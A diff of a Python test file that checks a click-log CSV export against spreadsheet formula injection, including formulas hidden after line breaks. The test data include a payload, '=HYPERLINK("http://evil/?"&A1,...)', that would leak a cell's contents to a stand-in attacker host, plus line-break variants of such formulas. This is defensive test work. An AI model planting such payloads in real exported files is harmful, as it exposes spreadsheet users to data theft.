@@ -66,10 +66,14 @@ def test_a_page_waits_in_the_store_while_an_earlier_one_of_its_user_and_pair_is_
     assert decision.per_user == other.mean == 0 and other.observations == 2 and decision.observations == 3
 
 
-def exported(folder, **how):
-    """Return the rows of the log of a page whose query and user are formulas."""
+FORMULAS = ('=HYPERLINK("http://evil/?"&A1,"x")', "@SUM(1+1)", "-1", "+1", "\tx", "shoes")
+BREAKS = ("shoes\r=HYPERLINK(1)", "hat\n@SUM(1+1)", "x\r\n-1", "y\r\r+1", "\r", "a\rb", "\uff1d1")
+
+
+def exported(folder, queries=FORMULAS, **how):
+    """Return the rows of the log of pages whose queries and user are formulas."""
     with opened(folder, settings(rankers=("a", "b"), policy="random")) as experiment:
-        for query in ('=HYPERLINK("http://evil/?"&A1,"x")', "@SUM(1+1)", "-1", "+1", "\tx", "shoes"):
+        for query in queries:
             page = experiment.decide(query, {"a": ["=x", "y"], "b": ["y", "=x"]}, user="=1+1")
             experiment.record(page.token, [])
     export_log(folder / "shop.db", folder / "log.csv", **how)
@@ -81,6 +85,19 @@ def test_no_cell_is_a_formula_for_a_spreadsheet(tmp_path):
     rows = exported(tmp_path, spreadsheet=True)
     assert len(rows) == 6 and rows[5]["query"] == "shoes" and rows[1]["query"] == "'@SUM(1+1)"
     assert not [cell for row in rows for cell in row.values() if cell[:1] in ("=", "+", "-", "@", "\t")]
+
+
+def test_no_line_of_a_cell_is_a_formula_for_a_spreadsheet(tmp_path):
+    rows = exported(tmp_path, BREAKS, spreadsheet=True)
+    lines = [line for row in rows for cell in row.values() for line in cell.splitlines()]
+    assert not [line for line in lines if line[:1] in tuple("=+-@\t\uff1d")]
+    assert rows[5]["query"] == "a\rb"
+
+
+def test_breaks_of_lines_in_a_query_damage_no_log(tmp_path):
+    assert [row["query"] for row in exported(tmp_path, BREAKS)] == list(BREAKS)
+    log = ClickLog(tmp_path / "log.csv")
+    assert [query for batch in log.batches() for query in batch.table["query"].to_pylist()] == list(BREAKS)
 
 
 def test_a_log_for_programs_holds_what_was_asked(tmp_path):
